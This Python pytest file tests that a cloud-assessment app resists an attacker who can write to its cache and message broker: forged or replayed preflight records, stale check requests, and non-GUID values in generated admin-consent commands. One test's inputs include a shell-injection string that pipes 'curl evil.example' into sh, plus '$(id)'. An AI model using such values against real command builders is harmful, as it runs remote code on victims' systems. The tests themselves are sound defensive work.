"""An attacker with access to the cache and the broker can neither forge results of checks nor start checks."""

from __future__ import annotations

from datetime import timedelta
from typing import Any
from uuid import UUID

import pytest
from django.core.cache import cache
from django.utils import timezone
from redis.exceptions import ConnectionError as CacheDown

from assessments import tasks
from assessments.actions import check_finding, sealed_cache
from assessments.actions.credentials import preflight
from assessments.actions.credentials.preflight import Requested, latest_preflight, request_preflight
from assessments.controls.registry import catalogue
from assessments.estate.gaps import Reason
from assessments.models import Finding
from assessments.permissions.grants import grant_of
from assessments.permissions.readiness import ControlReadiness, Missing, PreflightReport, as_plain
from tenants.errors import SuretyError
from tenants.models import ServicePrincipal
from tenants.scope import tenant_scope
from tests import factories
from tests.assessments.collect.azure import guid
from tests.assessments.sandboxed_customer import sent
from tests.for_each import for_each

pytestmark = pytest.mark.django_db
ATTACKER = guid(666)


@pytest.fixture(autouse=True)
def empty_cache() -> None:
    cache.clear()


@pytest.fixture
def principal() -> ServicePrincipal:
    made = factories.service_principal()
    with tenant_scope(made.tenant_id):
        return ServicePrincipal.objects.select_related("directory__tenant").get(pk=made.pk)


def report_for(client_id: str) -> PreflightReport:
    """A report that contains commands, because one permission is missing."""
    permission = "Policy.Read.All"
    missing = Missing("policies", "Policies", permission, "", Reason.FORBIDDEN, "No.")
    return PreflightReport(
        client_id, (guid(1),), (ControlReadiness(next(iter(catalogue().values())), (missing,)),)
    )


def finished(client_id: str) -> Requested:
    return Requested(timezone.now(), UUID(guid(9)), (guid(1),), report_for(client_id))


def keys_of(principal: ServicePrincipal) -> list[str]:
    key = preflight._key(principal.tenant_id, principal.pk)
    return [key, f"sealed:{key}"]


def test_a_forged_preflight_is_ignored(principal: ServicePrincipal) -> None:
    forged: dict[str, Any] = {
        "at": timezone.now().isoformat(), "subscriptions": [guid(1)], "failed": False,
        "report": as_plain(report_for(ATTACKER)),
    }  # fmt: skip
    for key in keys_of(principal):
        cache.set(key, forged)
    assert latest_preflight(principal) is None


def test_a_record_of_another_principal_is_ignored(principal: ServicePrincipal) -> None:
    other = factories.service_principal()
    preflight._store(other.tenant_id, other.pk, finished(ATTACKER))
    for source, target in zip(keys_of(other), keys_of(principal), strict=True):
        cache.set(target, cache.get(source))
    assert latest_preflight(principal) is None


def test_an_expired_record_that_is_restored_is_ignored(
    principal: ServicePrincipal, monkeypatch: pytest.MonkeyPatch
) -> None:
    preflight._store(principal.tenant_id, principal.pk, finished(principal.client_id))
    assert latest_preflight(principal) is not None
    later = timezone.now() + timedelta(days=1, minutes=1)
    old = {key: cache.get(key) for key in keys_of(principal)}
    monkeypatch.setattr(timezone, "now", lambda: later)
    cache.set_many({key: value for key, value in old.items() if value is not None}, None)
    assert latest_preflight(principal) is None


def test_commands_are_for_the_application_in_the_database(principal: ServicePrincipal) -> None:
    preflight._store(principal.tenant_id, principal.pk, finished(ATTACKER))
    found = latest_preflight(principal)
    assert found is not None
    assert found.report is not None
    script = "\n".join(found.report.commands)
    assert f"admin-consent --id {principal.client_id}" in script
    assert ATTACKER not in script


@for_each(
    "value", ["a'\ncurl evil.example | sh\n'", f"{guid(1)}\n", f"{guid(1)}$(id)", "", f"{guid(1)}\x85x"]
)
def test_no_command_contains_a_value_that_is_not_a_guid(value: str) -> None:
    with pytest.raises(SuretyError, match="not a valid id"):
        grant_of("Microsoft.Storage/storageAccounts/read", [], guid(2), [guid(1), value])
    for permission in ("Microsoft.Storage/storageAccounts/read", "Policy.Read.All"):
        with pytest.raises(SuretyError, match="not a valid id"):
            grant_of(permission, [], value, [guid(1)])


def test_the_requester_is_in_the_sealed_record_and_not_in_the_message(
    principal: ServicePrincipal, django_capture_on_commit_callbacks: Any
) -> None:
    requester = factories.person()
    sent()
    with django_capture_on_commit_callbacks(execute=True), tenant_scope(principal.tenant_id):
        request_preflight(by=requester, service_principal=principal, subscriptions=[guid(1)])
    ((_, arguments),) = sent()
    assert arguments == [str(principal.tenant_id), str(principal.pk)]
    requested = latest_preflight(principal)
    assert requested is not None
    assert requested.requested_by == requester.pk


@for_each("value", [5, "abc", ["x"], {"at": 1}, True])
def test_a_cached_value_that_is_no_record_counts_as_absent(value: Any) -> None:
    finding = Finding(pk=UUID(guid(3)), tenant_id=UUID(guid(4)))
    key = check_finding._key(finding.tenant_id, finding.pk)
    cache.set_many({key: value, f"sealed:{key}": value})
    assert check_finding.latest_check(finding) is None


def test_an_unreachable_cache_counts_as_without_records(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_arguments: Any, **_options: Any) -> None:
        raise CacheDown("Connection refused.")

    monkeypatch.setattr(cache, "get", refuse)
    assert sealed_cache.load("any") is None


def test_a_restored_request_of_a_preflight_runs_nothing(principal: ServicePrincipal) -> None:
    """An attacker who can write to the cache and the broker restores a request of some minutes ago and sends its
    message.
    """
    requester = factories.person()
    at = timezone.now() - timedelta(seconds=preflight.LOST_AFTER + 1)
    preflight._store(principal.tenant_id, principal.pk, Requested(at, requester.pk, (guid(1),)))
    preflight.run_requested(tenant_id=principal.tenant_id, service_principal_id=principal.pk)
    requested = latest_preflight(principal)
    assert requested is not None
    assert (requested.report, requested.failed) == (None, False)


def test_a_restored_request_of_a_check_runs_nothing() -> None:
    tenant_id, finding_id = UUID(guid(4)), UUID(guid(3))
    at = timezone.now() - timedelta(seconds=check_finding.LOST_AFTER + 1)
    check_finding._store(tenant_id, finding_id, check_finding.FindingCheck(at, UUID(guid(9))))
    # If the check ran, it would raise an error, because the finding does not exist.
    check_finding.run_check(tenant_id=tenant_id, finding_id=finding_id)
    record = check_finding._load(tenant_id, finding_id)
    assert record is not None
    assert record.ended_at is None


def test_messages_of_the_previous_version_are_accepted() -> None:
    """The third argument, the requester, is ignored. The cache contains no request, so nothing runs."""
    ids = (guid(4), guid(3), guid(9))
    assert tasks.preflight.run(*ids) is None
    assert tasks.check_finding.run(*ids) is None
